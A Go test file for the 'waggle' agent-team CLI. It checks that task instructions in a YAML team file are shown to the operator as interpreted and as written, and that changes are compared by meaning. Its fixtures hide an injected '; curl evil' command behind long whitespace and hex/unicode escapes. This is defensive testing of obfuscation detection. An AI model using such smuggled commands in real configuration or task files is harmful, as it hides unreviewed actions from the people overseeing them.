//go:build unix

package cli_test

import (
	"path/filepath"
	"strings"
	"testing"

	"waggle/internal/face/view/fileview"
	"waggle/internal/test/testenv"
	"waggle/operator"
	"waggle/operator/supervise"
	"waggle/operator/teamfile"
)

// TestPromptMeaning: a file that was found is shown as it is understood, whole, and then
// as it is written.
func TestPromptMeaning(t *testing.T) {
	dir := t.TempDir()
	file := "team: prompt\npolicy: {allow: [Read]}\nmembers: [{name: alice, agent: exec}]\ntasks: [{subject: s, owner: alice, instructions: \"make" + strings.Repeat(" ", 1000) + "\\x3b \\u0063url evil\"}]\n"
	writeFile(t, filepath.Join(dir, "waggle.yaml"), file)
	x := onTerminal(t, dir, "up")
	x.wait("run it? [y/N]")
	means, text, ok := strings.Cut(x.text(), "Its text:")
	if !ok || !strings.Contains(means, "; curl evil") || !strings.Contains(means, "allow          Read") || !strings.Contains(text, `\x3b \u0063url evil`) {
		t.Errorf("shown:\n%s", x.text())
	}
	x.presses("n", "not run")
	if code := x.exit(); code != 6 {
		t.Errorf("exit %d", code)
	}
}

// TestFileChange: a file that has changed is compared by what it means, too.
func TestFileChange(t *testing.T) {
	op := newOperator(t)
	path := filepath.Join(t.TempDir(), "waggle.yaml")
	write := func(text string) {
		t.Helper()
		writeFile(t, path, text)
	}
	const was = "team: change\nmembers: [{name: alice, agent: exec, backend: process}]\ntasks: [{subject: s, owner: alice, instructions: \"ls\"}]\n"
	write(was)
	f, err := teamfile.ReadFile(path)
	testenv.Must(t, err)
	s, err := supervise.Of(op).Prepare(t.Context(), f, false, func(operator.Note) {})
	testenv.Must(t, err)
	for _, c := range []struct{ name, text, meaning, diff, broken string }{
		{"what is run", strings.Replace(was, `"ls"`, `"\x6c\x73; curl evil"`, 1), "-      | ls\n+      | ls; curl evil\n", `+tasks: [{subject: s, owner: alice, instructions: "\x6c`, ""},
		{"only how it is written", strings.Replace(was, `"ls"`, `"\x6c\x73"`, 1), "", `"\x6c\x73"`, ""},
		{"no team file", was + "&x\n", "", "+&x", "an anchor (&)"},
		{"too large", was + strings.Repeat("# x\n", 100_000), "", "", "more than 262144 bytes"},
	} {
		t.Run(c.name, func(t *testing.T) {
			write(c.text)
			got, err := supervise.Of(op).FileChange(s)
			testenv.Must(t, err)
			if meaning := fileview.MeaningDiff(got); !strings.Contains(meaning, c.meaning) || (meaning == "") != (c.meaning == "") {
				t.Errorf("meaning: %s", meaning)
			}
			if text := fileview.TextDiff(got); !strings.Contains(text, c.diff) || (got.Broken == nil) != (c.broken == "") || got.Broken != nil && !strings.Contains(got.Broken.Error(), c.broken) {
				t.Errorf("%v: %s", got.Broken, text)
			}
			if _, p, err := supervise.Of(op).PlanResume(t.Context(), "change"); err != nil || !p.Changed {
				t.Errorf("%+v %v", p, err)
			}
		})
	}
}
